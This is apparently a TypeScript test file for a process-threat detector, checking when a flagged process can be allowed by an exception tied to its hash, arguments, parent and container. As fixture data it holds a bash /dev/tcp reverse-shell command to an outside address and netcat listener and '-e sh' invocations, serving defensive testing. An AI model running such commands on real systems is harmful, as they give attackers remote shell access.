// What may be allowed: a process that is listed as a threat, runs still, and has every fact that names it.
import { describe, expect, test } from 'vitest';
import type { ProcessFacts } from '../../../../core/contracts/processes.ts';
import type { Threat, ThreatException, ThreatReport } from '../../../../core/contracts/threats.ts';
import { threatsOf } from '../../../../detectors/process/threats/verdict/snapshot.ts';
import { identify } from '../../../../web/server/threats/policy.ts';

const hash = 'ab'.repeat(32);
const parent: ProcessFacts = { pid: 50, argv: ['bash'], exe: '/usr/bin/bash' };
const facts: ProcessFacts = {
  ...{ pid: 77, ppid: 50, startedAtSeconds: 1_000.5, exe: '/usr/bin/nc', exeSha256: hash },
  ...{ argv: ['nc', '-l', '9000'], container: null },
};
const threat: Threat = {
  ...{ pid: 77, startedAtSeconds: 1_000, tier: 'critical', category: 'reverse_shells', score: 90, techniques: [] },
  ...{ reasons: ['listens'], exe: '/usr/bin/nc', commandLine: 'nc -l 9000', container: null },
};
const report = (threats: Threat[]): ThreatReport => ({
  ...{ instance: 'one', takenAtSeconds: 1, scanGapSeconds: 5, omitted: 0, threats },
});
const asked = { instance: 'one', pid: 77, startedAtSeconds: 1_000 };

function judge(given: { threat?: object; facts?: object; parent?: object; asked?: object } = {}) {
  const processes = [
    { ...parent, ...given.parent },
    { ...facts, ...given.facts },
  ];
  const judged = { state: 'known' as const, items: [report([{ ...threat, ...given.threat }])] };
  return identify({ ...asked, ...given.asked }, judged, processes);
}

test('it is named by its program, its arguments, what started it, and where it runs', () => {
  expect(judge()).toEqual({
    kind: 'known',
    named: { exeSha256: hash, argv: ['nc', '-l', '9000'], parentExe: '/usr/bin/bash', container: null },
  });
  expect(judge({ asked: { startedAtSeconds: 1_001.5 } }).kind).toBe('known'); // the clock was set meanwhile
  const inside = { container: { name: 'shop' } };
  expect(judge({ facts: inside, threat: { container: 'shop' } })).toMatchObject({ named: { container: 'shop' } });
});

test.each([null, { name: 'shop' }])(
  'what is named so is what the detector then lets pass, in container %j',
  (container) => {
    const argv = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];
    const shell: ProcessFacts = { ...facts, argv, exe: '/usr/bin/bash', container };
    const processes = [parent, shell, { ...shell, pid: 78, argv: [...argv, 'x'] }];
    const judge = (exceptions: ThreatException[]) => threatsOf(processes, exceptions, 100);
    const before = judge([]);
    expect(before.threats.map(({ pid }) => pid)).toEqual([77, 78]);
    const [listed] = before.threats;
    const found = identify(
      { instance: 'one', pid: listed!.pid, startedAtSeconds: listed!.startedAtSeconds },
      { state: 'known', items: [report(before.threats)] },
      processes,
    );
    expect(found.kind).toBe('known');
    const end = { id: 'e', expiresAtSeconds: 200, reason: 'drill', owner: 'ops' };
    const after = judge(found.kind === 'known' ? [{ ...found.named, ...end }] : []);
    expect(after.threats.map(({ pid, allowedBy }) => [pid, allowedBy])).toEqual([
      [77, 'e'],
      [78, undefined],
    ]);
  },
);

describe('it cannot be allowed', () => {
  test.each([
    { given: 'another start: the pid was given anew', change: { asked: { startedAtSeconds: 900 } }, says: /any more/ },
    { given: 'a start that nobody knows', change: { asked: { startedAtSeconds: undefined } }, says: /any more/ },
    { given: 'another machine', change: { asked: { instance: 'two' } }, says: /unknown right now/ },
    { given: 'allowed already', change: { threat: { allowedBy: 'x' } }, says: /already/ },
    {
      given: 'another process of that pid now',
      change: { facts: { startedAtSeconds: 1_010 } },
      says: /not run any more/,
    },
    { given: 'other arguments now', change: { facts: { argv: ['nc', '-e', 'sh'] } }, says: /not run any more/ },
    { given: 'another program now', change: { facts: { exe: '/tmp/nc' } }, says: /not run any more/ },
    { given: 'another container now', change: { facts: { container: { name: 'x' } } }, says: /not run any more/ },
    { given: 'no hash', change: { facts: { exeSha256: undefined } }, says: /hash/ },
    { given: 'arguments cut', change: { facts: { argvTruncated: true } }, says: /longer than what is read/ },
    { given: 'no word of its container', change: { facts: { container: undefined } }, says: /in a container/ },
    { given: 'no parent', change: { facts: { ppid: undefined } }, says: /started it/ },
    { given: 'a parent without a program', change: { parent: { exe: undefined } }, says: /started it/ },
    {
      given: 'more arguments than fit',
      change: { facts: { argv: ['nc', '-l', '9000', ...Array.from({ length: 254 }, () => 'x')] } },
      says: /more or longer/,
    },
  ])('$given', ({ change, says }) => {
    expect(judge(change)).toMatchObject({ kind: 'unknown', reason: expect.stringMatching(says) });
  });

  test('while nobody says what is a threat', () => {
    const reason = 'The detectors do not answer.';
    expect(identify(asked, { state: 'unknown', reason }, [facts, parent])).toEqual({ kind: 'unknown', reason });
  });
});
